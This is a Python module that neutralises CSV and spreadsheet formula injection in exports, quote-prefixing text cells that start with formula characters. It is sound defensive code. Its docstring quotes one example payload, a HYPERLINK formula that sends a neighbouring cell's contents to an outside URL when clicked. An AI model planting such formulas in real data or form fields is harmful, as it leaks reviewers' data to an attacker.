"""The one way exports write cells (issue 15.3): stored text is shown, never run.

Excel and LibreOffice take a cell that starts with =, +, -, @, a tab or a carriage return as a formula (the OWASP
CSV-injection rule): a provider called =HYPERLINK("http://…"&B5,"查看详情") sends the next cell away when a reviewer
clicks it, and DDE formulas can start programs. So text starting that way is written as text:

- in a workbook, as a string cell with Excel's quote prefix (what Excel itself stores when one types '=1): the text
  reads as stored and stays text even when the cell is edited; openpyxl would store anything starting with = as a
  formula;
- in CSV, which has no cell types, behind a single quote, which Excel reads as "this is text".

Only text changes: numbers, negative amounts included, stay numbers. Every export writes its rows through append()
or csv_bytes(); tests/test_inert_exports.py downloads every export route to hold them to it."""
import csv
import io
from collections.abc import Iterable

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def runnable(value) -> bool:
    """Whether a spreadsheet could take `value` for a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def append(sheet: Worksheet, values: Iterable) -> None:
    """sheet.append(values), with formula-like text as quote-prefixed text cells."""
    sheet.append([_cell(sheet, value) for value in values])


def _cell(sheet: Worksheet, value):
    """Text loses the control characters a workbook cannot hold (openpyxl refuses them: the export would fail)."""
    if isinstance(value, str):
        value = ILLEGAL_CHARACTERS_RE.sub("", value)
    if not runnable(value):
        return value
    cell = Cell(sheet, value=value)
    cell.data_type = "s"
    cell.quotePrefix = True
    return cell


def csv_bytes(rows: Iterable[Iterable]) -> bytes:
    """UTF-8 CSV with a BOM (so Excel opens the Chinese correctly) and CRLF line ends; formula-like text is
    prefixed with a single quote."""
    out = io.StringIO(newline="")
    writer = csv.writer(out)
    writer.writerows([f"'{value}" if runnable(value) else value for value in row] for row in rows)
    return ("\ufeff" + out.getvalue()).encode("utf-8")
